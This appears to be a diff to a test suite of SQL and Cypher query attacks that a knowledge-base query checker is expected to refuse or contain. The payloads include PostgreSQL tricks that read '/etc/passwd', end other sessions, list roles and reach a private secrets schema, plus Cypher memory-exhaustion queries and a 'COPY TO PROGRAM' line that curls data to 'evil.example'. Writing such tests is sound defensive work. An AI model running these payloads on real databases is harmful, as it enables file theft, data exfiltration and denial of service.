@@ -28,6 +28,11 @@ export interface QueryAttack {
   /** What the refusal, the stop, or the returned (cut) values say. */
   says: RegExp;
   timeoutMs?: number;
+  /**
+   * What the query reaches for beyond the knowledge base's schema. A role without the privilege is stopped
+   * by PostgreSQL's own permissions first (contained); where the role has it, the checks must refuse it.
+   */
+  reaches?: "other-schemas" | "server-functions";
 }
 
 export interface SqlTarget {
@@ -188,7 +193,231 @@ const SQLITE: Omit<QueryAttack, "category">[] = [
   },
 ];
 
+/**
+ * Issue 31: what PostgreSQL resolves that a parse tree does not show. Field notation `(expr).f` and
+ * `alias.f` (no such column) are calls of f; casts, operators and views reach further. The test databases
+ * hold a schema `private` with a table `secrets`, and a view `leak` of the knowledge base's schema over it.
+ */
+const POSTGRES_RESOLVED: Omit<QueryAttack, "category">[] = [
+  // Case 1: field notation.
+  { name: "(2.5::float8).pg_sleep", text: "SELECT (2.5::float8).pg_sleep", expect: "refused", says: FN("pg_sleep") },
+  {
+    name: "('server_version'::text).current_setting",
+    text: "SELECT ('server_version'::text).current_setting",
+    expect: "refused",
+    says: FN("current_setting"),
+  },
+  {
+    name: "x.ts_stat over unnest reads other sessions' queries",
+    text: "SELECT x.ts_stat FROM unnest(ARRAY['SELECT to_tsvector(query) FROM pg_stat_activity']) x",
+    expect: "refused",
+    says: FN("ts_stat"),
+  },
+  {
+    name: "x.ts_stat over unnest reads the roles",
+    text: "SELECT x.ts_stat FROM unnest(ARRAY['SELECT to_tsvector(rolname) FROM pg_roles']) x",
+    expect: "refused",
+    says: FN("ts_stat"),
+  },
+  {
+    name: "alias.pg_sleep over unnest",
+    text: "SELECT u.pg_sleep FROM unnest(ARRAY[3.0::float8]) u",
+    expect: "refused",
+    says: FN("pg_sleep"),
+  },
+  {
+    name: "alias.pg_read_file over unnest",
+    text: "SELECT f.pg_read_file FROM unnest(ARRAY['/etc/passwd']) f",
+    expect: "refused",
+    says: FN("pg_read_file"),
+    reaches: "server-functions",
+  },
+  {
+    name: "alias.pg_ls_dir over unnest",
+    text: "SELECT d.pg_ls_dir FROM unnest(ARRAY['.']) d",
+    expect: "refused",
+    says: FN("pg_ls_dir"),
+    reaches: "server-functions",
+  },
+  {
+    name: "alias.lo_import over unnest",
+    text: "SELECT l.lo_import FROM unnest(ARRAY['/etc/passwd']) l",
+    expect: "refused",
+    says: FN("lo_import"),
+    reaches: "server-functions",
+  },
+  { name: "(12345).pg_cancel_backend", text: "SELECT (12345).pg_cancel_backend", expect: "refused", says: FN("pg_cancel_backend") },
+  {
+    name: "alias.current_setting over a column of the table",
+    text: "SELECT t.current_setting FROM (SELECT 'data_directory'::text AS v FROM {t} LIMIT 1) s, unnest(ARRAY[s.v]) t",
+    expect: "refused",
+    says: FN("current_setting"),
+  },
+  // Case 2: pg_terminate_backend from SQL text that ts_stat runs.
+  {
+    name: "ts_stat by field notation ends other sessions",
+    text: "SELECT x.ts_stat FROM unnest(ARRAY['SELECT to_tsvector(pg_terminate_backend(pid)::text) FROM pg_stat_activity WHERE pid <> pg_backend_pid()']) x",
+    expect: "refused",
+    says: FN("ts_stat"),
+  },
+  { name: "(4242).pg_terminate_backend", text: "SELECT (4242).pg_terminate_backend", expect: "refused", says: FN("pg_terminate_backend") },
+  // Case 3: a session-level advisory lock.
+  {
+    name: "(987654::bigint).pg_advisory_lock",
+    text: "SELECT (987654::bigint).pg_advisory_lock",
+    expect: "refused",
+    says: FN("pg_advisory_lock"),
+  },
+  {
+    name: "alias.pg_advisory_lock over unnest",
+    text: "SELECT k.pg_advisory_lock FROM unnest(ARRAY[987654::bigint]) k",
+    expect: "refused",
+    says: FN("pg_advisory_lock"),
+  },
+  {
+    name: "alias.pg_try_advisory_lock_shared over unnest",
+    text: "SELECT k.pg_try_advisory_lock_shared FROM unnest(ARRAY[987654::bigint]) k",
+    expect: "refused",
+    says: FN("pg_try_advisory_lock_shared"),
+  },
+  // Case 14 and its kin: nested where a stored query hides it.
+  {
+    name: "a guide's CTE with a field-notation sleep",
+    text: "WITH s AS (SELECT (6.0::float8).pg_sleep) SELECT count(*) FROM s",
+    expect: "refused",
+    says: FN("pg_sleep"),
+  },
+  {
+    name: "a CTE with an alias-notation sleep",
+    text: "WITH s AS (SELECT u.pg_sleep FROM unnest(ARRAY[6.0::float8]) u) SELECT count(*) FROM s",
+    expect: "refused",
+    says: FN("pg_sleep"),
+  },
+  {
+    name: "a sleep in a scalar subquery",
+    text: "SELECT {c}, (SELECT count(u.pg_sleep) FROM unnest(ARRAY[0.5::float8]) u) FROM {t}",
+    expect: "refused",
+    says: FN("pg_sleep"),
+  },
+  {
+    name: "a sleep in ORDER BY",
+    text: "SELECT {c} FROM {t} ORDER BY (SELECT count(u.pg_sleep) FROM unnest(ARRAY[0.5::float8]) u)",
+    expect: "refused",
+    says: FN("pg_sleep"),
+  },
+  {
+    name: "a sleep in HAVING",
+    text: "SELECT {c} FROM {t} GROUP BY {c} HAVING (SELECT count(u.pg_sleep) FROM unnest(ARRAY[0.5::float8]) u) >= 0",
+    expect: "refused",
+    says: FN("pg_sleep"),
+  },
+  {
+    name: "a sleep behind LATERAL",
+    text: "SELECT s.v FROM {t}, LATERAL (SELECT u.pg_sleep AS v FROM unnest(ARRAY[0.5::float8]) u) s",
+    expect: "refused",
+    says: FN("pg_sleep"),
+  },
+  {
+    name: "a sleep in LIMIT",
+    text: "SELECT {c} FROM {t} LIMIT (SELECT count(u.pg_sleep) FROM unnest(ARRAY[0.5::float8]) u)",
+    expect: "refused",
+    says: FN("pg_sleep"),
+  },
+  {
+    name: "a sleep in a UNION branch",
+    text: "SELECT 1 UNION ALL SELECT count(u.pg_sleep)::int FROM unnest(ARRAY[0.5::float8]) u",
+    expect: "refused",
+    says: FN("pg_sleep"),
+  },
+  {
+    name: "a sleep in the filter of an EXISTS",
+    text: "SELECT {c} FROM {t} WHERE EXISTS (SELECT 1 FROM unnest(ARRAY[0.5::float8]) u WHERE u.pg_sleep::text = '')",
+    expect: "refused",
+    says: FN("pg_sleep"),
+  },
+  {
+    // EXISTS ignores its select list: the planner drops it, and nothing is called.
+    name: "a sleep in the select list of an EXISTS is never called",
+    text: "SELECT count(*) AS n FROM {t} WHERE EXISTS (SELECT u.pg_sleep FROM unnest(ARRAY[30.0::float8]) u)",
+    expect: "contained",
+    says: /"n":\d+/,
+  },
+  {
+    name: "a field of a composite value (composite-field syntax)",
+    text: "SELECT ({t}).{c} FROM {t}",
+    expect: "refused",
+    says: /is not allowed: PostgreSQL (may run|runs) it as the function/,
+  },
+  {
+    name: "an unnest column named like a function is only a column",
+    text: "SELECT u.pg_sleep FROM unnest(ARRAY[2.0::float8]) AS u(pg_sleep)",
+    expect: "contained",
+    says: /"pg_sleep":2/,
+  },
+  // Casts that look things up.
+  { name: "cast to regproc", text: "SELECT 'pg_sleep'::regproc", expect: "refused", says: /casting to regproc is not allowed/ },
+  {
+    name: "cast to regnamespace",
+    text: "SELECT 'private'::regnamespace",
+    expect: "refused",
+    says: /casting to regnamespace is not allowed/,
+  },
+  { name: "cast to regrole", text: "SELECT 'postgres'::regrole", expect: "refused", says: /casting to regrole is not allowed/ },
+  // Operators whose functions are dangerous: not built-in ones, and not on the list.
+  {
+    name: "an operator of another schema",
+    text: "SELECT OPERATOR(public.###) 0.5::float8",
+    expect: "refused",
+    says: /operator public\.### is not allowed/,
+  },
+  { name: "an operator not on the list", text: "SELECT ### 0.5::float8", expect: "refused", says: /operator ### is not allowed/ },
+  // Set-returning functions in FROM.
+  { name: "pg_ls_dir in FROM", text: "SELECT * FROM pg_ls_dir('.') AS d", expect: "refused", says: FN("pg_ls_dir") },
+  { name: "ts_stat in FROM under an alias", text: "SELECT * FROM ts_stat('SELECT 1') AS unnest", expect: "refused", says: FN("ts_stat") },
+  {
+    name: "unnest with ordinality named like a function",
+    text: "SELECT pg_sleep FROM unnest(ARRAY[1]) WITH ORDINALITY AS t(pg_sleep, n)",
+    expect: "contained",
+    says: /"pg_sleep":1/,
+  },
+  // Case 4: other schemas.
+  {
+    name: "private.secrets on a knowledge base of another schema",
+    text: "SELECT * FROM private.secrets",
+    expect: "refused",
+    says: /private\.secrets, which is outside this knowledge base's schema/,
+    reaches: "other-schemas",
+  },
+  {
+    name: "another schema, quoted and upper-case",
+    text: 'SELECT * FROM "private".SECRETS',
+    expect: "refused",
+    says: /private\.secrets, which is outside/,
+    reaches: "other-schemas",
+  },
+  {
+    name: "another schema in a subquery",
+    text: "SELECT {c} FROM {t} WHERE {c} IN (SELECT secret FROM private.secrets)",
+    expect: "refused",
+    says: /private\.secrets, which is outside/,
+    reaches: "other-schemas",
+  },
+  {
+    name: "another schema through a view of the knowledge base's schema",
+    text: "SELECT * FROM leak",
+    expect: "refused",
+    says: /private\.secrets, which is outside/,
+  },
+  {
+    name: "a system view unqualified",
+    text: "SELECT usename FROM pg_user",
+    expect: "refused",
+    says: /pg_user is a system catalog/,
+  },
+];
+
 const POSTGRES: Omit<QueryAttack, "category">[] = [
+  ...POSTGRES_RESOLVED,
   {
     name: "COPY … TO PROGRAM",
     text: "COPY {t} TO PROGRAM 'curl http://evil.example -d @/etc/passwd'",
@@ -565,10 +794,73 @@ const CYPHER: Omit<QueryAttack, "category">[] = [
     timeoutMs: 1_500,
   },
   {
+    name: "a billion values collected from a range in a WITH",
+    text: "WITH range(1, 1000000000) AS l UNWIND l AS i RETURN count(i) AS n",
+    expect: "refused",
+    says: /range\(\) would build a list of 1,000,000,000 values, and at most 100,000 are allowed/,
+  },
+  {
+    name: "a hundred million rows that never end",
+    text: "UNWIND range(1, 10000) AS a UNWIND range(1, 10000) AS b WITH a, b WHERE a * b = -1 RETURN count(a) AS n",
+    expect: "contained",
+    says: /ran longer than \d+ ms/,
+    timeoutMs: 1_500,
+  },
+  {
     name: "string doubling to a huge value",
     text: "RETURN reduce(s = 'x', i IN range(1, 24) | s + s) AS big",
+    expect: "refused",
+    says: /reduce\(\) adds its accumulator s to itself/,
+  },
+  // Issue 31, case 5: a list the server builds in one expression, which its memory limit does not count.
+  {
+    name: "a list comprehension over range(1, 200000000)",
+    text: "RETURN size([x IN range(1, 200000000) | toString(x)]) AS n",
+    expect: "refused",
+    says: /range\(\) would build a list of 200,000,000 values/,
+  },
+  {
+    name: "a filtered list comprehension over a hex range",
+    text: "RETURN size([x IN range(0, 0x7ffffff) WHERE x % 2 = 0 | x]) AS n",
+    expect: "refused",
+    says: /range\(\) would build a list of 134,217,728 values/,
+  },
+  {
+    name: "range() from a computed bound",
+    text: "RETURN size([x IN range(1, toInteger('200000000')) | x]) AS n",
+    expect: "refused",
+    says: /range\(\) may only be given whole numbers, parameters or sizes of lists/,
+  },
+  {
+    name: "range() from multiplied literals",
+    text: "RETURN size(range(1, 20000 * 10000)) AS n",
+    expect: "refused",
+    says: /range\(\) would build a list of 200,000,000 values/,
+  },
+  {
+    name: "list doubling in reduce",
+    text: "RETURN size(reduce(l = [0], i IN range(1, 40) | l + l)) AS n",
+    expect: "refused",
+    says: /reduce\(\) adds its accumulator l to itself/,
+  },
+  {
+    name: "string doubling hidden in a function call",
+    text: "RETURN size(reduce(s = 'ab', i IN range(1, 40) | toUpper(s) + s)) AS n",
+    expect: "refused",
+    says: /reduce\(\) adds its accumulator s to itself/,
+  },
+  {
+    name: "collect() past the transaction's memory limit",
+    text: "UNWIND range(1, 100000) AS x WITH x UNWIND range(1, 100) AS y WITH collect(toString(x) + '-' + toString(y)) AS l RETURN size(l) AS n",
     expect: "contained",
-    says: /\[cut: the value is 16,777,216 bytes long|needed more|ran longer/,
+    says: /needed more memory than one graph query may use|ran longer than/,
+    timeoutMs: 20_000,
+  },
+  {
+    name: "a list within the bound",
+    text: "RETURN size([x IN range(1, 100000) | toString(x)]) AS n",
+    expect: "contained",
+    says: /"n":100000/,
   },
 ];
 
